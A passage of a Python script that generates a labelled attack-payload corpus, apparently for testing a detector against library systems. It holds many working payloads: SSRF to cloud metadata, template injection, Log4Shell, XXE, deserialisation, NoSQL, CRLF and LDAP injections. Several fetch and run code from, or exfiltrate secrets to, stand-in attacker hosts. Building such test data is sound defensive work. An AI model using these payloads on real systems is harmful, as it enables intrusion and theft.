    ("oai-gopher_redis", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20/var/spool/cron/crontabs%0D%0ACONFIG%20SET%20dbfilename%20root%0D%0ASET%20k%20%22%5Cn*%20*%20*%20*%20*%20curl%20-s%20attacker.example/c%7Csh%5Cn%22%0D%0ASAVE%0D%0AQUIT%0D%0A"),
    ("oai-gopher_smtp", "gopher://127.0.0.1:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cill%40library.example%3E%0D%0ARCPT%20TO%3A%3Cvictim%40example.org%3E%0D%0ADATA%0D%0ASubject%3A%20Renew%20now%0D%0A%0D%0Ahttps%3A%2F%2Fattacker.example%2Frenew%0D%0A.%0D%0AQUIT%0D%0A"),
    ("cover-dict_memcached", "dict://127.0.0.1:11211/stats"),
    ("cover-file_scheme", "file:///etc/passwd"),
    ("cover-file_scheme_win", "file:///C:/Windows/win.ini"),
    ("cover-unc_ntlm", "\\\\198.51.100.5\\covers\\x.jpg"),
    ("marc-netdoc_scheme", "856 40 $u netdoc:///etc/passwd"),
    ("oai-ldap_scheme", "ldap://127.0.0.1:389/dc=library,dc=example??sub?(objectClass=*)"),
    ("oai-internal_solr", "http://solr.internal:8983/solr/catalog/select?q=*:*&fl=patron_*&rows=10000&wt=json"),
    ("oai-internal_es", "http://localhost:9200/patrons/_search?size=1000"),
    ("iiif-docker_api", "http://172.17.0.1:2375/containers/json"),
    ("iiif-kubelet", "https://10.0.0.1:10250/pods"),
    ("iiif-k8s_secrets", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("cover-consul_kv", "http://127.0.0.1:8500/v1/kv/?recurse"),
    ("ezproxy-url_param", "https://login.ezproxy.example.edu/login?url=http://169.254.169.254/latest/user-data"),
    ("openurl-rft_id", "https://resolver.example.edu/openurl?url_ver=Z39.88-2004&rft_id=http://127.0.0.1:8080/manager/html"),
    ("oai-internal_endpoint", "http://10.0.3.17:8080/oai?verb=ListRecords&metadataPrefix=oai_dc"),
    ("iiif-loopback+ipv6_mapped_hex", "http://[0:0:0:0:0:ffff:7f00:1]:8182/tasks"),
    ("iiif-cantaloupe_api", "http://127.0.0.1:8182/tasks"),
    ("webhook-internal_api", "http://localhost:3000/api/v1/staff/tokens"),
    ("marc-linkcheck_metadata", "856 40 $u http://169.254.169.254/latest/meta-data/iam/security-credentials/library-ec2 $z Full text"),
    ("cover-loopback+octal_ip", "http://017700000001:8080/admin"),
    ("cover-loopback+enclosed_alnum", "http://①②⑦.⓪.⓪.①:8080/admin"),
    ("cover-dns_to_internal", "http://loopback.attacker.example:8080/admin"),
    ("iiif-aws_ipv6_imds", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("iiif-alibaba_metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("cover-router_admin", "http://192.168.0.1/cgi-bin/luci"),
    ("cover-aws_alias", "http://instance-data/latest/meta-data/"),
    ("ezproxy-url_param+urlenc", "https://login.ezproxy.example.edu/login?url=http%3A%2F%2F127.0.0.1%3A8080%2Fadmin"),
    ("plain-aws_metadata", "http://169.254.169.254/latest/meta-data/"),
    ("plain-localhost", "http://localhost/admin"),
    ("plain-file_scheme", "file:///etc/shadow"),
    ("plain-gopher_memcached", "gopher://127.0.0.1:11211/_stats%0D%0A"),
]

SSRF_PREFIXES = [
    ("ezproxy", "https://login.ezproxy.example.edu/login?url="),
    ("iiif", "https://iiif.example.org/import?manifest="),
    ("openurl", "https://resolver.example.edu/openurl?url_ver=Z39.88-2004&rft_id="),
]
SSRF_CORES = [
    ("aws_metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("internal_solr", "http://127.0.0.1:8983/solr/admin/cores?action=STATUS"),
    ("gcp_metadata", "http://metadata.google.internal/computeMetadata/v1/project/project-id"),
]
SSRF_ENCODABLE = [
    ("cover-aws_metadata", "http://169.254.169.254/latest/meta-data/"),
]

# ---------------------------------------------------------------------------
# Code injection: SSTI, expression languages, deserialisation, XXE,
# Log4Shell-style lookups, prototype pollution, CSV formulas, LaTeX
# ---------------------------------------------------------------------------
MARCXML_XXE = (
    '<?xml version="1.0"?>\n'
    '<!DOCTYPE collection [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
    '<collection xmlns="http://www.loc.gov/MARC21/slim"><record>'
    '<datafield tag="245" ind1="1" ind2="0"><subfield code="a">&x;</subfield></datafield>'
    "</record></collection>"
)
EAD_XXE_OOB = (
    '<?xml version="1.0"?>\n'
    '<!DOCTYPE ead [<!ENTITY % d SYSTEM "http://attacker.example/x.dtd"> %d;]>\n'
    "<ead><eadheader><eadid>&exfil;</eadid></eadheader></ead>"
)
SVG_XXE = (
    '<?xml version="1.0"?>\n'
    '<!DOCTYPE svg [<!ENTITY h SYSTEM "file:///etc/hostname">]>\n'
    '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="40"><text x="0" y="20">&h;</text></svg>'
)
MARCXML_LAUGHS = (
    '<!DOCTYPE r [<!ENTITY a "aaaaaaaaaa">'
    '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">'
    '<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">'
    '<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">]>'
    "<record><leader>&e;&e;&e;&e;&e;</leader></record>"
)
XSLT_PHP = (
    '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" '
    'xmlns:php="http://php.net/xsl">\n'
    '<xsl:template match="/"><xsl:value-of select="php:function(\'system\',\'id\')"/></xsl:template>\n'
    "</xsl:stylesheet>"
)
JSONNET_TYPENAME = (
    '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework",'
    '"MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System",'
    '"StartInfo":{"$type":"System.Diagnostics.ProcessStartInfo, System",'
    '"FileName":"cmd","Arguments":"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\w.txt"}}}'
)

CODE = [
    ("note-ssti_jinja2", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("citation-ssti_jinja2_joiner", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('curl -s attacker.example/j|sh').read() }}"),
    ("search-ssti_jinja2_request", "{{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}"),
    ("marc-ssti_jinja2_subclasses", "500 ## $a {{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("patron-ssti_jinja2_config", "Dear {{ config.items() }}"),
    ("note-ssti_jinja2+hex_escape", "{{ (lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['os'].popen('id').read() }}"),
    ("note-ssti_jinja2_loop", "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("citation-ssti_twig_filter", "{{ ['id']|filter('system') }}"),
    ("citation-ssti_twig_callback", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("note-ssti_freemarker_execute", '<#assign ex="freemarker.template.utility.Execute"?new()>${ ex("id") }'),
    ("citation-ssti_freemarker_inline", '${"freemarker.template.utility.Execute"?new()("curl -s attacker.example/f")}'),
    ("note-ssti_velocity", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("search-ssti_thymeleaf_preprocess", "__${T(java.lang.Runtime).getRuntime().exec('touch /tmp/t')}__::.x"),
    ("citation-spel_runtime", '${T(java.lang.Runtime).getRuntime().exec("curl attacker.example/s")}'),
    ("search-ognl_runtime", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("patron-el_reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("note-ssti_erb_backticks", "<%= `id` %>"),
    ("citation-ssti_erb_file", "<%= File.read('/etc/passwd') %>"),
    ("patron-ssti_erb_system", '<%= system("curl -s attacker.example/e | sh") %>'),
    ("note-ssti_mako_module", '${self.module.cache.util.os.system("id")}'),
    ("note-ssti_mako_block", "<% import os; x=os.popen('id').read() %>${x}"),
    ("citation-ssti_smarty", "{system('ls /')}"),
    ("note-ssti_nunjucks", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id').toString()\")() }}"),
    ("note-ssti_ejs", "<%= process.mainModule.require('child_process').execSync('id') %>"),
    ("note-ssti_pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("note-ssti_tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("note-ssti_razor", '@System.Diagnostics.Process.Start("cmd.exe","/c whoami")'),
    ("citation-python_format_string", "{record.__init__.__globals__[CONFIG][SECRET_KEY]}"),
    ("search-log4shell_ldap", "ti:(Gödel) ${jndi:ldap://203.0.113.15:1389/lib}"),
    ("patron-log4shell_rmi", "${jndi:rmi://ldap.attacker.example/o}"),
    ("search-log4shell+lookup_nesting", "${${lower:j}ndi:${lower:l}dap://x.attacker.example/a}"),
    ("ill-log4shell+default_value", "${${::-j}${::-n}${::-d}${::-i}:dns://oob.attacker.example/q}"),
    ("header-log4shell_env_exfil", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.oob.attacker.example/k}"),
    ("search-log4shell_sys_dns", "${jndi:dns://${sys:java.version}.oob.attacker.example}"),
    ("note-log4shell+env_default", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://203.0.113.15/q}"),
    ("marcxml-xxe_file", MARCXML_XXE),
    ("ead-xxe_param_oob", EAD_XXE_OOB),
    ("ead-xinclude", '<unittitle xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></unittitle>'),
    ("cover-svg_xxe", SVG_XXE),
    ("marcxml-entity_expansion", MARCXML_LAUGHS),
    ("marcxml-xxe_php_filter", '<!DOCTYPE r [<!ENTITY s SYSTEM "php://filter/convert.base64-encode/resource=/var/www/config.php">]><r>&s;</r>'),
    ("ead-xxe_ssrf", '<!DOCTYPE ead [<!ENTITY s SYSTEM "http://169.254.169.254/latest/meta-data/">]><ead><eadheader><eadid>&s;</eadid></eadheader></ead>'),
    ("savedsearch-php_unserialize", 'O:8:"Exporter":1:{s:4:"path";s:23:"/var/www/html/shell.php";}'),
    ("savedsearch-pickle_base64", "Y29zCnN5c3RlbQooUydjdXJsIC1zIGh0dHA6Ly8yMDMuMC4xMTMuNy9wIHwgc2gnCnRSLg=="),
    ("savedsearch-node_serialize", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('curl -s attacker.example/n|sh')}()\"}"),
    ("import-pyyaml_apply", 'title: Moby-Dick\nextra: !!python/object/apply:os.system ["curl -s attacker.example/y | sh"]'),
    ("import-snakeyaml_classloader", '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/yaml.jar"]]]]'),
    ("import-jackson_polymorphic", '["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://203.0.113.15:1389/x"}]'),
    ("import-fastjson_autotype", '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://203.0.113.15:1389/f","autoCommit":true}'),
    ("import-jsonnet_typename", JSONNET_TYPENAME),
    ("cover-phar_wrapper", "phar:///var/www/uploads/covers/c.jpg/x"),
    ("manifest-proto_pollution", '{"label":{"en":["Folio 12r"]},"__proto__":{"isAdmin":true}}'),
    ("manifest-constructor_prototype", '{"constructor":{"prototype":{"role":"admin"}}}'),
    ("search-proto_pollution_qs", "__proto__[isStaff]=true"),
    ("manifest-proto_ejs_gadget", "{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('curl -s attacker.example/p|sh');s\"}}"),
    ("manifest-proto_pollution+unicode_escape", '{"\\u005f\\u005fproto\\u005f\\u005f":{"isAdmin":true}}'),
    ("patron-csv_formula_hyperlink", '=HYPERLINK("https://attacker.example/?d="&A2&B2,"Open record")'),
    ("patron-csv_formula_dde", "=cmd|'/C powershell -nop -w hidden -c iwr http://203.0.113.8/a.ps1|iex'!A1"),
    ("note-csv_formula_at", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("ill-csv_formula_minus", "-2+3+cmd|' /C explorer https://attacker.example'!A0"),
    ("patron-csv_formula_webservice", '=WEBSERVICE("https://attacker.example/x?"&ENCODEURL(C2))'),
    ("note-csv_formula_importxml", '=IMPORTXML(CONCAT("https://attacker.example/?d=",A1,B1,C1),"//a")'),
    ("patron-csv_formula_plus", '+IMAGE("https://attacker.example/p.png?"&A3)'),
    ("report-jexl_runtime", "''.class.forName('java.lang.Runtime').getRuntime().exec('id')"),
    ("report-groovy_execute", "['sh','-c','curl -s attacker.example/g|sh'].execute()"),
    ("sort-python_eval", "__import__('os').system('id')"),
    ("note-ssi_exec", '<!--#exec cmd="id" -->'),
    ("note-esi_include", '<esi:include src="http://attacker.example/esi"/>'),
    ("export-xslt_php_function", XSLT_PHP),
    ("bibtex-latex_write18", "@misc{x, note = {\\immediate\\write18{curl -s attacker.example/t|sh}}}"),
    ("plain-log4shell", "${jndi:ldap://attacker.example/a}"),
    ("plain-xxe", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'),
    ("plain-proto_pollution", '{"__proto__":{"admin":true}}'),
    ("plain-csv_formula", "=1+1+cmd|' /C calc'!A0"),
    ("plain-spel", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("plain-python_eval", "__import__('os').popen('id').read()"),
]

CODE_PREFIXES = [
    ("note", "Processing note for Box 4: "),
    ("citation", "Melville, H. (1851). "),
    ("search", 'ti:"Moby-Dick" '),
]
CODE_CORES = [
    ("log4shell_ldap", "${jndi:ldap://203.0.113.15:1389/c}"),
    ("ssti_jinja2", "{{ cycler.__init__.__globals__.os.popen('uname -a').read() }}"),
]
CODE_ENCODABLE = [
    ("search-log4shell", "${jndi:ldap://203.0.113.15:1389/e}"),
    ("note-ssti_jinja2", "{{ lipsum.__globals__.os.popen('id').read() }}"),
]

# ---------------------------------------------------------------------------
# NoSQL injection (MongoDB / CouchDB queries built from input)
# ---------------------------------------------------------------------------
NOSQLI = [
    ("login-operator_ne", '{"card_number":{"$ne":null},"pin":{"$ne":null}}'),
    ("login-operator_ne_qs", "card_number[$ne]=x&pin[$ne]=x"),
    ("login-operator_gt", '{"card_number":"21234000012345","pin":{"$gt":""}}'),
    ("login-regex_blind", '{"card_number":"21234000012345","pin":{"$regex":"^7"}}'),
    ("login-regex_qs", "card_number=21234000012345&pin[$regex]=^12.*"),
    ("search-where_sleep", '{"$where":"sleep(5000) || true"}'),
    ("search-where_string_breakout", "'; return true; var x='"),
    ("search-where_sleep_breakout", "1'; sleep(5000); var d='1"),
    ("search-or_exists", '{"$or":[{"status":"available"},{"pin_hash":{"$exists":true}}]}'),
    ("report-lookup_pipeline", '[{"$match":{}},{"$lookup":{"from":"staff_users","pipeline":[],"as":"staff"}}]'),
    ("search-function_sleep", '{"$expr":{"$function":{"body":"function(){sleep(4000);return true}","args":[],"lang":"js"}}}'),
    ("search-regex_dump_qs", "ti[$regex]=.*&ti[$options]=si"),
    ("patron-operator_nin", '{"barcode":{"$nin":["0"]}}'),
    ("search-where_charat", "{\"$where\":\"this.pin_hash.charAt(0)=='a'\"}"),
    ("couchdb-mango_regex", '{"selector":{"role":{"$regex":"admin"}},"fields":["login","pin_hash"]}'),
    ("couchdb-mango_gt_null", '{"selector":{"_id":{"$gt":null}},"limit":10000}'),
    ("login-gte_comment", '{"$comment":"x","card_number":{"$gte":""},"pin":{"$gte":""}}'),
    ("login-operator_type", '{"card_number":"21234000012345","pin":{"$type":2}}'),
    ("search-js_object_breakout", "x', $where: 'sleep(5000)"),
    ("search-regex_redos", '{"ti":{"$regex":"^(a+)+$"}}'),
    ("login-operator_ne_qs+urlenc", "pin%5B%24ne%5D=x&card_number%5B%24ne%5D=x"),
    ("plain-operator_ne", '{"$ne": null}'),
    ("plain-operator_ne_qs", "[$ne]=1"),
    ("plain-where", '{"$where": "1 == 1"}'),
]

NOSQLI_PREFIXES = [
    ("login", "card_number=21234000012345&"),
    ("search", "ti=Moby-Dick&"),
]
NOSQLI_CORES = [
    ("operator_ne_qs", "pin[$ne]=0000"),
    ("regex_qs", "pin[$regex]=^9"),
]
NOSQLI_ENCODABLE = [
    ("login-operator_gt", '{"pin":{"$gt":""}}'),
]

# ---------------------------------------------------------------------------
# CRLF: log forging, HTTP header / response splitting, mail header injection
# ---------------------------------------------------------------------------
CRLF = [
    ("patron-mail_bcc", "maria@example.org\r\nBcc: everyone@attacker.example"),
    ("ill-mail_cc_subject", "ILL notice <ill@library.example>\nCc: harvest@attacker.example\nSubject: Overdue"),
    ("header-set_cookie", "en-GB\r\nSet-Cookie: session=attacker-fixed; Path=/"),
    ("redirect-location+urlenc", "/catalog?q=whale%0d%0aLocation:%20https://attacker.example/"),
    ("redirect-response_split+urlenc", "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("search-log_forging", "Kraków\n2024-05-14 10:02:11 INFO staff login succeeded user=admin ip=10.0.0.5"),
    ("note-ansi_escape", "Box 3 \x1b[2J\x1b[1;31mALERT: restore catalogue from backup now\x1b[0m"),
    ("search-log_forging_crlf", "melville\r\n[2024-05-14T10:03:00Z] AUDIT record 991234 deleted by jdoe"),
    ("search-log_forging+unicode_newline", "moby\u2028INFO admin password reset for jdoe"),
    ("search-log_forging+nel", "moby\u0085WARN cache purge requested by admin"),
    ("ill-smtp_command", "Thanks!\r\n.\r\nMAIL FROM:<x@attacker.example>\r\nRCPT TO:<victim@example.org>\r\nDATA\r\nSubject: Your library account\r\n\r\nVerify your card at https://attacker.example/reset\r\n.\r\n"),
    ("patron-mail_content_type", "Hold ready\nContent-Type: text/html\n\n<a href=https://attacker.example/renew>Renew here</a>"),
    ("header-xff+urlenc", "%0d%0aX-Forwarded-For:%20127.0.0.1"),
    ("header-set_cookie+urlenc2", "%250d%250aSet-Cookie:%20x=1"),
    ("header-set_cookie+utf8_truncation", "%E5%98%8A%E5%98%8DSet-Cookie:%20a=b"),
    ("log-syslog_forge", "x\n<134>May 14 10:00:00 catalog sshd[1]: Accepted password for root from 203.0.113.4 port 22 ssh2"),
    ("log-json_field_injection", 'whale","level":"INFO","msg":"admin login ok","user":"admin'),
    ("download-content_disposition", 'scan.pdf"\r\nContent-Type: text/html\r\n\r\n<script>alert(document.domain)</script>'),
    ("email-to_bcc+urlenc", "reader@example.org%0ABcc:list@attacker.example"),
    ("redirect-refresh_header", "https://catalog.example.edu/\r\nRefresh: 0; url=https://attacker.example/"),
    ("header-x_accel_redirect+urlenc", "x%0d%0aX-Accel-Redirect:%20/internal/patron_exports/all.csv"),
    ("log-carriage_return_overwrite", "whale\rINFO login ok user=admin                              "),
    ("email-reply_to_injection", "Hold ready for pickup\r\nReply-To: help@attacker.example"),
    ("ill-mime_part_injection", "Thanks\r\nContent-Type: multipart/mixed; boundary=b1\r\n\r\n--b1\r\nContent-Type: text/html\r\n\r\n<form action=https://attacker.example/pin><input name=pin></form>\r\n--b1--"),
    ("log-access_line_forge", 'QA76.73 .P98\n127.0.0.1 - admin [14/May/2024:10:00:00 +0000] "POST /admin/patrons/delete HTTP/1.1" 200 12'),
    ("log-csv_row_injection", "Box 3\n2024-05-14,deleted,all_patrons,admin"),
    ("plain-crlf_set_cookie", "\r\nSet-Cookie: admin=true"),
    ("plain-crlf+urlenc", "%0d%0aSet-Cookie:%20admin=true"),
    ("plain-log_forging", "\nINFO user admin logged in"),
]

CRLF_PREFIXES = [
    ("patron", "reader@example.org"),
    ("ill", "ill-notices@library.example"),
]
CRLF_CORES = [
    ("mail_bcc", "\r\nBcc: list@attacker.example"),
    ("mail_subject_body", "\nSubject: Card suspended\n\nRe-verify at https://attacker.example/card"),
]
CRLF_ENCODABLE = [
    ("header-set_cookie", "\r\nSet-Cookie: sid=attacker"),
]

# ---------------------------------------------------------------------------
# LDAP filter / XPath injection
# ---------------------------------------------------------------------------
LDAP_XPATH = [
    ("login-ldap_wildcard_close", "*)(uid=*))(|(uid=*"),
    ("login-ldap_and_true", "admin)(&)"),
    ("patron-ldap_memberof", "*)(memberOf=cn=staff,ou=groups,dc=library,dc=example"),
    ("login-ldap_blind_password", "admin)(userPassword=a*"),
    ("login-ldap_or_password_bypass", "jdoe)(|(objectClass=*)"),
    ("search-ldap_null_truncation", "*))%00"),
    ("patron-ldap_attr_probe", "ad*)(description=*pin*"),
    ("findingaid-xpath_tautology", "Tagebücher' or '1'='1"),
    ("findingaid-xpath_union", "whale'] | //patron/pin | //c[did/unittitle='"),
    ("ead-xpath_count", "x' or count(//user)>0 or 'a'='b"),
    ("ead-xpath_substring_blind", "' or substring(//user[1]/password,1,1)='s' or 'a'='b"),
    ("tei-xpath_contains", "') or contains(//staff/password,'a') or ('"),
    ("ead-xpath_dump_all", "'] | //* | //*['"),
    ("ead-xpath_name_probe", "' or string-length(name(/*[1]))=3 or ''='"),
    ("ead-xpath2_doc_oob", "' or doc(concat('http://attacker.example/?p=',encode-for-uri(//user[1]/password))) or '"),
    ("tei-xpath_dquote", 'leviathan" or "1"="1'),
    ("login-ldap_wildcard+urlenc", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"),
    ("plain-ldap_wildcard", "*)(objectClass=*"),
    ("plain-xpath_tautology", "' or 1=1 or ''='"),
    ("plain-ldap_or_password", "*)(|(userPassword=*)"),
]

LDAP_PREFIXES = [
    ("login", "jdoe"),
    ("patron", "Okafor"),
]
LDAP_CORES = [
    ("ldap_or_wildcard", ")(|(uid=*)"),
    ("ldap_or_mail", "*)(|(mail=*)"),
]
LDAP_ENCODABLE = [
    ("login-ldap_wildcard_close", "*)(uid=*))(|(uid=*"),
]


# ---------------------------------------------------------------------------
# templates
# ---------------------------------------------------------------------------
def make_template(prefixes, cores, encodable, encoders, p_encode):
    """Return a template function over hand-written pools."""

    def tpl(rng):
        if encodable and rng.random() < p_encode:
            cls, payload = rng.choice(encodable)
            enc = rng.choice(encoders)
            return f"{cls}+{enc}", ENCODERS[enc](payload)
        ctx, pre = rng.choice(prefixes)
        tech, core = rng.choice(cores)
        return f"{ctx}-{tech}", pre + core

    return tpl


# (category, literals, template, total target)
CATEGORIES = [
    ("sqli", SQLI, make_template(SQLI_PREFIXES, SQLI_CORES, SQLI_ENCODABLE, ["urlenc", "urlenc2"], 0.2), 74),
    ("xss", XSS, make_template(XSS_PREFIXES, XSS_CORES, XSS_ENCODABLE, ["urlenc", "html_entity", "unicode_escape"], 0.3), 75),
    ("cmdi", CMDI, make_template(CMDI_PREFIXES, CMDI_CORES, CMDI_ENCODABLE, ["urlenc"], 0.3), 70),
    ("traversal", TRAVERSAL, make_template(TRAV_PREFIXES, TRAV_CORES, TRAV_ENCODABLE, ["urlenc", "urlenc2"], 0.3), 52),
    ("ssrf", SSRF, make_template(SSRF_PREFIXES, SSRF_CORES, SSRF_ENCODABLE, ["urlenc"], 0.2), 50),
    ("code", CODE, make_template(CODE_PREFIXES, CODE_CORES, CODE_ENCODABLE, ["urlenc"], 0.3), 78),
    ("nosqli", NOSQLI, make_template(NOSQLI_PREFIXES, NOSQLI_CORES, NOSQLI_ENCODABLE, ["urlenc"], 0.3), 26),
    ("crlf", CRLF, make_template(CRLF_PREFIXES, CRLF_CORES, CRLF_ENCODABLE, ["urlenc"], 0.3), 31),
    ("ldap-xpath", LDAP_XPATH, make_template(LDAP_PREFIXES, LDAP_CORES, LDAP_ENCODABLE, ["urlenc"], 0.3), 22),
]


def load_benign_values():
    """Benign values from the sibling generator (to keep the files disjoint)."""
    sys.dont_write_bytecode = True
    spec = importlib.util.spec_from_file_location("library_make_benign", HERE / "make_benign.py")
    mod = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(mod)
    return {v for _cat, v, _lit in mod.build()}


def build():
    """Return the list of (category, class, value, is_literal) in file order."""
    rng = random.Random(SEED)
    seen = set()
    rows = []
    for cat, literals, tpl, target in CATEGORIES:
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            rows.append((cat, cls, v, True))
        made, tries = len(literals), 0
        if made > target:
            raise SystemExit(f"{cat}: {made} literals exceed target {target}")
        while made < target:
            tries += 1
            if tries > 10000:
                raise SystemExit(f"{cat}: template exhausted")
            cls, v = tpl(rng)
            if v in seen:
                continue
            seen.add(v)
            rows.append((cat, cls, v, False))
            made += 1
    return rows


def main():
    rows = build()
    benign = load_benign_values()
    lines = []
    for i, (cat, cls, v, _lit) in enumerate(rows, 1):
        if not isinstance(v, str) or not v or len(v) > 1800:
            raise SystemExit(f"bad value in {cat}: {v!r}")
        if not CLASS_RE.match(cls):
            raise SystemExit(f"bad class {cls!r}")
        if v in benign:
            raise SystemExit(f"value also in benign corpus: {v!r}")
        obj = {"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls, "label": "attack", "value": v}
        lines.append(json.dumps(obj, ensure_ascii=False) + "\n")
    with open(OUT, "w", encoding="utf-8", newline="\n") as fh:
        fh.write("".join(lines))
    total_lit = 0
    for cat, _lits, _tpl, _target in CATEGORIES:
        sub = [r for r in rows if r[0] == cat]
        lit = sum(1 for r in sub if r[3])
        plain = sum(1 for r in sub if r[1].startswith("plain-"))
        enc = sum(1 for r in sub if "+" in r[1])
        total_lit += lit
        print(f"{cat:12s} n={len(sub):3d} literals={lit:3d} plain={plain:2d} encoded={enc:2d}")
    n_plain = sum(1 for r in rows if r[1].startswith("plain-"))
    n_enc = sum(1 for r in rows if "+" in r[1])
    print(f"total={len(rows)} literals={total_lit} ({100 * total_lit / len(rows):.0f}%) "
          f"plain={n_plain} encoded={n_enc} -> {OUT.name}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
